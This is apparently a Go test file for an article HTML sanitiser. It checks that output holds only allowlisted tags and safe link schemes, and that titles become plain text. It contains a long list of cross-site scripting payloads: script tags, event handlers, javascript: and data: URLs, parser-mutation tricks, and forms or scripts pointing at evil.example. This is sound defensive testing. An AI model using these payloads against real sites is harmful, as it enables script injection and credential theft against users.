package article

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// harmless are the elements that an article may have, with their attributes. The
// list is the tests' own: what the code lets through is held against it.
var harmless = map[string][]string{
	"a": {"href", "rel"}, "img": {"src", "alt", "width", "height", "loading", "decoding", "referrerpolicy"},
	"ol": {"start"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
	"abbr": {}, "b": {}, "br": {}, "cite": {}, "code": {}, "del": {}, "em": {}, "i": {}, "ins": {}, "kbd": {}, "mark": {}, "q": {},
	"s": {}, "samp": {}, "small": {}, "strong": {}, "sub": {}, "sup": {}, "u": {}, "var": {}, "wbr": {},
	"blockquote": {}, "dd": {}, "div": {}, "dl": {}, "dt": {}, "figcaption": {}, "figure": {},
	"h2": {}, "h3": {}, "h4": {}, "h5": {}, "h6": {}, "hr": {}, "li": {}, "p": {}, "pre": {}, "ul": {},
	"caption": {}, "table": {}, "tbody": {}, "tfoot": {}, "thead": {}, "tr": {},
}

// wantInert parses an article as a browser would, as the inside of a body, and
// fails on anything that could do something. plain is the one origin without TLS
// whose pictures are allowed.
func wantInert(t *testing.T, article, plain string) {
	t.Helper()
	for _, n := range nodes(t, article) {
		switch n.Type {
		case html.TextNode:
			continue
		case html.ElementNode:
		default:
			t.Errorf("a node of type %d: %q in %q", n.Type, n.Data, article)
			continue
		}
		attributes, known := harmless[n.Data]
		if !known || n.Namespace != "" {
			t.Errorf("element %q of namespace %q in %q", n.Data, n.Namespace, article)
		}
		for _, a := range n.Attr {
			if !slices.Contains(attributes, a.Key) || a.Namespace != "" {
				t.Errorf("attribute %s=%q of %s in %q", a.Key, a.Val, n.Data, article)
			}
			switch a.Key {
			case "href":
				wantScheme(t, a.Val, "http", "https", "mailto")
			case "src":
				if plain == "" || !strings.HasPrefix(a.Val, plain+"/") {
					wantScheme(t, a.Val, "https")
				}
			}
		}
		if n.Data == "a" && value(n, "rel") != "noopener nofollow ugc" {
			t.Errorf("a link with rel %q in %q", value(n, "rel"), article)
		}
	}
}

func wantScheme(t *testing.T, address string, schemes ...string) {
	t.Helper()
	u, err := url.Parse(address)
	if err != nil || !slices.Contains(schemes, u.Scheme) || u.Scheme != "mailto" && u.Host == "" || u.User != nil {
		t.Errorf("the address %q (%v)", address, err)
	}
}

// nodes lists a fragment's nodes in document order.
func nodes(t *testing.T, fragment string) []*html.Node {
	t.Helper()
	parsed, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Fatalf("parsing %q: %v", fragment, err)
	}
	var all []*html.Node
	for _, root := range parsed {
		all = append(all, root)
		for n := range root.Descendants() {
			all = append(all, n)
		}
	}
	return all
}

func value(n *html.Node, attribute string) string {
	for _, a := range n.Attr {
		if a.Key == attribute {
			return a.Val
		}
	}
	return ""
}

// textOf is what a browser shows of a fragment.
func textOf(t *testing.T, fragment string) string {
	t.Helper()
	var out strings.Builder
	for _, n := range nodes(t, fragment) {
		if n.Type == html.TextNode {
			out.WriteString(n.Data)
		}
	}
	return strings.Join(strings.Fields(out.String()), "")
}

// attacks are the classic ways to get something to run, load, submit or style
// through a sanitiser.
var attacks = []string{
	// Scripts, however they are written.
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/xss src=//evil.example/x.js></script>`, `<<script>alert(1);//<</script>`, `<script>alert(1)`, `<script >alert(1)</script >`,
	`</title><script>alert(1)</script>`, `<script type="text/template"><img src=x onerror=alert(1)></script>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<svg><script>alert(1)</script></svg>`, `<svg><script xlink:href=data:,alert(1) />`, `<math><script>alert(1)</script></math>`,
	// Handlers.
	`<p onclick="alert(1)">x</p>`, `<img src=x onerror=alert(1)>`, `<img src="https://ok.example/a.png" ONLOAD=alert(1)>`, `<a href="https://ok.example" onmouseover=alert(1)>x</a>`,
	`<img/src=x/onerror=alert(1)>`, `<img src="x" ` + "\x0c" + `onerror=alert(1)>`, "<img src=x\nonerror\n=\nalert(1)>", `<body onload=alert(1)>x`, `<div onpointerover=alert(1)>x</div>`,
	`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
	`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<xss id=x tabindex=1 onfocus=alert(1)>x</xss>`,
	`<p title="a" onclick='alert(1)' "">x</p>`, `<b <p onclick=alert(1)>x</b>`, `<a href="https://ok.example/" "onclick="alert(1)">x</a>`, "<img src='https://ok.example/`'onerror=alert(1)//'>",
	// Addresses that run.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#09;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`, `<a href="view-source:https://ok.example">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:https://ok.example/1">x</a>`, `<a href="intent://x#Intent;end">x</a>`,
	`<a href="https:evil.example">x</a>`, `<a href="https://user:pass@evil.example/">x</a>`, `<a href="//evil.example" target=_blank>x</a>`, `<a href="javascript://ok.example/%0aalert(1)">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="http://plain.example/a.png">`, `<img srcset="https://evil.example/a 1x">`, `<img lowsrc="javascript:alert(1)">`, `<img dynsrc=javascript:alert(1)>`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`, `<table background="javascript:alert(1)"><tr><td>x</table>`, `<td background=javascript:alert(1)>`, `<q cite=javascript:alert(1)>x</q>`,
	// Documents in the document.
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src=javascript:alert(1)>`, `<frameset><frame src=javascript:alert(1)></frameset>`, `<object data=javascript:alert(1)></object>`,
	`<embed src=javascript:alert(1)>`, `<applet code=x></applet>`, `<portal src=https://evil.example></portal>`, `<fencedframe></fencedframe>`, `<object><param name=src value=javascript:alert(1)></object>`,
	// The page around the article.
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=import href=//evil.example>`, `<html manifest=x><head><title>x</title></head>`,
	`</main></body></html><h1>after</h1>`, `</div></div></section><form action=https://evil.example><input name=password><button>Log in</button></form>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">`, `<!DOCTYPE html SYSTEM "x"><p>x`, `<![CDATA[<script>alert(1)</script>]]>`, `<p id=app name=location class=live>x</p>`, `<form id=document><input name=cookie></form>`, `<slot name=x></slot><template shadowrootmode=open><script>alert(1)</script></template>`,
	// Styles.
	`<style>body{display:none}</style>`, `<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<style><img src="</style><img src=x onerror=alert(1)//">`, `<font color=red face="x" size=7>x</font>`, `<div class="sale-banner">x</div>`,
	// What parsers disagree on (mutation).
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg><foreignObject><p title="</foreignObject></svg><img src=x onerror=alert(1)>">x`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`, `<noembed><img src=x onerror=alert(1)></noembed>`, `<noframes><img src=x onerror=alert(1)></noframes>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<title><img src=x onerror=alert(1)></title>`,
	`<svg><title><a id="</title><img src=1 onerror=alert(1)>"></a></title></svg>`, `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>`, `<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
	`<table><td><svg><p><style><a title="</style><img src onerror=alert(1)>"></table>`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`, `<img src="a&quot;onerror=alert(1)//">`, `<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`,
	`<image src=x onerror=alert(1)>`, `<isindex type=image src=1 onerror=alert(1)>`, `<a href="https://ok.example/&quot;><script>alert(1)</script>">x</a>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
	`<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src=https://ok.example/a.png>`, `<img alt="--><script>alert(1)</script>" src=https://ok.example/a.png>`, "<a href=\"https://ok.example/\u2028javascript:alert(1)\">x</a>", "\xff\xfe<script>alert(1)</script>", `<a href="https://ok.example/%00%0d%0aSet-Cookie:x">x</a>`,
}

func TestNothingOfAnAttackCanDoAnything(t *testing.T) {
	at, _ := url.Parse("https://medium.com/fieldhouse/post")
	for _, attack := range attacks {
		for _, around := range [][2]string{{"", ""}, {"<p>before ", " after</p>"}, {"<table><tr><td>", "</table>"}, {"<a href='https://ok.example'>", "</a>"}, {"<svg>", ""}, {"<ul><li><b>", ""}, {`<p title="`, `">`}} {
			source := around[0] + attack + around[1]
			result := sanitise(source, base{at: at})
			wantInert(t, result.HTML, "")
			for _, word := range []string{"<script", "javascript:", "onerror=a", "vbscript:"} {
				for _, n := range nodes(t, result.HTML) {
					for _, a := range n.Attr {
						if a.Key != "alt" && strings.HasPrefix(strings.ToLower(a.Val), word) {
							t.Errorf("%q became %q", source, result.HTML)
						}
					}
				}
			}
		}
	}
}

func TestWhatIsSaidAfterAnAttackIsStillThere(t *testing.T) {
	at, _ := url.Parse("https://medium.com/fieldhouse/post")
	for _, attack := range []string{
		`<script>alert(1)</script>`, `<iframe src=x></iframe>`, `<style>x{}</style>`, `<svg><path/></svg>`, `<object><object></object></object>`,
		`<form><input><button>Log in</button></form>`, `<embed src=x>`, `<p onclick=alert(1)></p>`, `<script/>x</script>`, `<video controls><source src=x></video>`,
	} {
		result := sanitise("<p>before</p>"+attack+"<p>after</p>", base{at: at})
		if result.HTML != "<p>before</p><p>after</p>" || result.Text != "before after" {
			t.Errorf("%s: %q, text %q", attack, result.HTML, result.Text)
		}
	}
}

func TestTitlesNamesAndExcerptsAreTextWithoutTags(t *testing.T) {
	for source, want := range map[string]string{
		"Packs & Prices":                      "Packs & Prices",
		"Packs &amp; Prices":                  "Packs & Prices",
		"Fish <3":                             "Fish <3",
		"2 < 3 > 1":                           "2 < 3 > 1",
		"<b>New</b> packs":                    "New packs",
		"Sale<script>alert(1)</script> opens": "Sale opens",
		"One<br>two":                          "One two",
		"a\x00b\u202ec\n d":                   "a b c d",
		"What&#39;s new?":                     "What's new?",
		"The <select> element":                "The element",
		strings.Repeat("x", 400):              strings.Repeat("x", maxTitle-1) + "…",
		"<img src=x onerror=alert(1)>":        "",
	} {
		if got := plain(source, maxTitle); got != want {
			t.Errorf("%q: %q, want %q", source, got, want)
		}
	}
}
